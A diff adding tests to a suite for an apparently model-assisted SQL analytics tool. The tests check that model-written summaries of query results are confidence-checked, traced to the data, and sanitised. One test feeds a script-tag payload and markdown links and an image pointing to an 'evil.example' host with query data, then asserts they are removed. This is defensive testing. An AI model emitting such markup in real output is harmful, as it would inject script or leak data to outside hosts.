@@ -337,6 +337,48 @@ test('searches that the engine refuses, and more of them than may run, keep no q
   expect(used.model.requests.map(({ body }) => promptOf(body)).join('\n')).toContain('6 more searches were not run.');
 });
 
+describe('the words of a model about the rows', () => {
+  const byCity = 'SELECT city, COUNT(*) AS customers FROM customers GROUP BY city ORDER BY customers DESC';
+  const cityColumns = [
+    { name: 'city', role: 'dimension' },
+    { name: 'customers', role: 'measure' },
+  ];
+  const read = (words: ScriptedReply) => [
+    stage('first_step', [sqlStep(byCity, cityColumns)]),
+    stage('evaluation', [words]),
+  ];
+
+  test('that they do not answer lowers the confidence and is told', async () => {
+    const words = evaluation('Osaka has 2 customers.', { accepted: false, critique: 'Growth was asked.' });
+    const answer = await ask(await open(read(words)), { question: hard });
+    expect(answer.confidence.score).toBe(0.45);
+    expect(answer.assumptions.join(' ')).toMatch(/doubts that they answer the question\. Growth was asked\./);
+  });
+
+  test('hold no address and no markup, and end', async () => {
+    const words = evaluation('Osaka has 2 customers. '.repeat(200), {
+      key_findings: ['<script>alert(2)</script>', ...Array.from({ length: 20 }, () => 'Nagoya has 1 customer.')],
+      recommended_action: 'See [this](http://evil.example/?q=Osaka).',
+      data_quality: '![x](http://evil.example/?q=Osaka)',
+    });
+    const { summary } = await ask(await open(read(words)), { question: hard });
+    expect(summary.text.length).toBeLessThan(810);
+    expect(summary.keyFindings).toEqual(['Nagoya has 1 customer.']);
+    expect(JSON.stringify(summary)).not.toMatch(/evil|script/);
+  });
+
+  test('of which none can be kept leave a sure answer as sure as it was, with all of the words by rule', async () => {
+    const words = evaluation('Osaka grew by 47% to 9,999 JPY.', { key_findings: ['It will be 12,345.'] });
+    const used = await open([stage('evaluation', [words])]);
+    const told = await ask(used, { question: easy });
+    const alone = await ask(used, { question: easy, evaluate: false });
+    expect([told.lane, told.usage.modelCalls]).toEqual(['planner', 1]);
+    expect(told.confidence.score).toBe(alone.confidence.score);
+    expect(told.summary).toMatchObject({ text: alone.summary.text, keyFindings: alone.summary.keyFindings });
+    expect(told.assumptions.join(' ')).toContain('could not be traced');
+  });
+});
+
 describe('the record of a question', () => {
   async function recordOf(rules: readonly ScriptedRule[], request: Readonly<Record<string, unknown>>) {
     const requestStore = createMemoryRequestStore();
